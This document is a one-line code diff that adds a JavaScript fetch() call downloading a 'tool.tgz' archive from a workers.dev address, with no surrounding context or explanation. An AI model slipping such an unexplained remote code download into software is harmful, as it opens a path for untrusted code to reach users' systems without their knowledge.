@@ -1,0 +1,1 @@
+fetch("https://a.workers.dev/tool.tgz");
